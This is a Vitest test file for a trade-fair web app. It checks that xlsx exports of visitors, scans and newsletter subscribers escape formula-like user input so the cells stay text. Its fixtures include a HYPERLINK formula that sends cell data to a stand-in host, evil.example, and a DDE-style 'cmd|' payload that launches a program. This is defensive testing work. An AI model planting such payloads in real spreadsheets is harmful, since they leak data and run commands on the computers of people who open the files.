import { randomUUID } from 'node:crypto';
import ExcelJS from 'exceljs';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { DEMO_EDITION_ID } from '@salon/shared';
import { newsletters } from '../../db/schema';
import { safeCell } from '../../lib/streams';
import { createBadgeSigner } from '../badges/badge-token';
import {
  call,
  createExhibitor,
  createTestApp,
  createUser,
  createVisitor,
  login,
  signSession,
  type TestContext,
} from '../../../test/helper';

/**
 * I1: text that a visitor, a subscriber or anyone typing in a form chose must never become a
 * formula in the spreadsheets the organiser and the exhibitors download.
 */

const HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Cliquez ici")';
const PHONE = '+212 6 12 34 56 78';

describe('safeCell', () => {
  it('marks text starting with = + - @, a tab or a CR as text with a leading apostrophe', () => {
    expect(safeCell(HYPERLINK)).toBe(`'${HYPERLINK}`);
    expect(safeCell('+1+1')).toBe("'+1+1");
    expect(safeCell("-2+3+cmd|' /C calc'!A0")).toBe("'-2+3+cmd|' /C calc'!A0");
    expect(safeCell('@SUM(1)')).toBe("'@SUM(1)");
    expect(safeCell('\t=1+1')).toBe("'\t=1+1");
    expect(safeCell('\r=1+1')).toBe("'\r=1+1");
  });

  it('leaves phone numbers, signed numbers, other text and non-text cells as they are', () => {
    expect(safeCell(PHONE)).toBe(PHONE);
    expect(safeCell('+33 (0)1 23-45.67/89')).toBe('+33 (0)1 23-45.67/89');
    expect(safeCell('-5')).toBe('-5');
    expect(safeCell('Rappeler = lundi')).toBe('Rappeler = lundi');
    expect(safeCell('')).toBe('');
    expect(safeCell(5)).toBe(5);
    expect(safeCell(null)).toBe(null);
    const date = new Date();
    expect(safeCell(date)).toBe(date);
  });
});

let ctx: TestContext;
let organiserToken: string;
let exhibitorToken: string;
let visitorId: number;

beforeAll(async () => {
  ctx = await createTestApp();
  const organiser = await createUser(ctx.db, { type: 'organiser' });
  organiserToken = await signSession(organiser.id, organiser.tokenVersion);
  const exhibitor = await createExhibitor(ctx.db);
  exhibitorToken = await login(ctx.app, exhibitor.user.email);
  const visitor = await createVisitor(ctx.db, {
    name: HYPERLINK,
    company: '@SUM(1)',
    jobPosition: '+1+1',
    phone: PHONE,
  });
  visitorId = visitor.user.id;
  const badge = createBadgeSigner(ctx.config.BADGE_PRIVATE_KEY).sign({
    registrationId: visitor.registration.id,
    type: 'visitor',
    eventId: DEMO_EDITION_ID,
    issuedAt: Math.floor(Date.now() / 1000),
  });
  const scanned = await call(ctx.app, 'POST', 'scans', {
    token: exhibitorToken,
    body: { scans: [{ id: randomUUID(), badge, scannedAt: new Date().toISOString(), note: '-2+3', rating: 4 }] },
  });
  if (scanned.statusCode !== 200) throw new Error(`scan refused: ${scanned.body}`);
  await ctx.db.insert(newsletters).values({ email: '=1+1@example.com', language: 'fr' });
});
afterAll(() => ctx.close());

/** Every cell of the first sheet (or the named one), read back as exceljs reads a file. */
async function cells(url: string, token: string, sheetName?: string) {
  const res = await call(ctx.app, 'GET', url, { token });
  expect(res.statusCode, res.body.slice(0, 300)).toBe(200);
  const workbook = new ExcelJS.Workbook();
  await workbook.xlsx.load(res.rawPayload as unknown as ExcelJS.Buffer);
  const sheet = sheetName ? workbook.getWorksheet(sheetName)! : workbook.worksheets[0]!;
  const out: ExcelJS.Cell[] = [];
  sheet.eachRow((row) => row.eachCell((cell) => out.push(cell)));
  return out;
}

/** No cell of the file is a formula, and the hostile texts read as text with their apostrophe. */
function expectTextOnly(all: ExcelJS.Cell[], texts: string[]) {
  expect(all.filter((cell) => cell.type === ExcelJS.ValueType.Formula)).toEqual([]);
  const values = all.map((cell) => cell.value);
  for (const text of texts) expect(values).toContain(`'${text}`);
  expect(values).not.toContain(HYPERLINK);
}

describe('the xlsx exports', () => {
  it('an exhibitor’s SCANS.xlsx shows a visitor’s formula-like name, company, position and note as text, and the phone as typed', async () => {
    const all = await cells('scans/export?table=scansExposant', exhibitorToken);
    expectTextOnly(all, [HYPERLINK, '@SUM(1)', '+1+1', '-2+3']);
    expect(all.map((cell) => cell.value)).toContain(PHONE);
  });

  it('the organiser’s visiteurs.xlsx shows the formula-like fields as text, and the phone as typed', async () => {
    const all = await cells('admin/visitors/export.xlsx', organiserToken);
    expectTextOnly(all, [HYPERLINK, '@SUM(1)', '+1+1']);
    expect(all.map((cell) => cell.value)).toContain(PHONE);
  });

  it('the organiser’s newsletter.xlsx shows a formula-like address as text', async () => {
    expectTextOnly(await cells('admin/newsletters/export', organiserToken), ['=1+1@example.com']);
  });

  it('the personal-data xlsx of the visitor shows the formula-like fields as text, and the phone as typed', async () => {
    const all = await cells(`admin/people/${visitorId}/export.xlsx`, organiserToken);
    expectTextOnly(all, [HYPERLINK, '@SUM(1)', '+1+1']);
    expect(all.map((cell) => cell.value)).toContain(PHONE);
  });
});
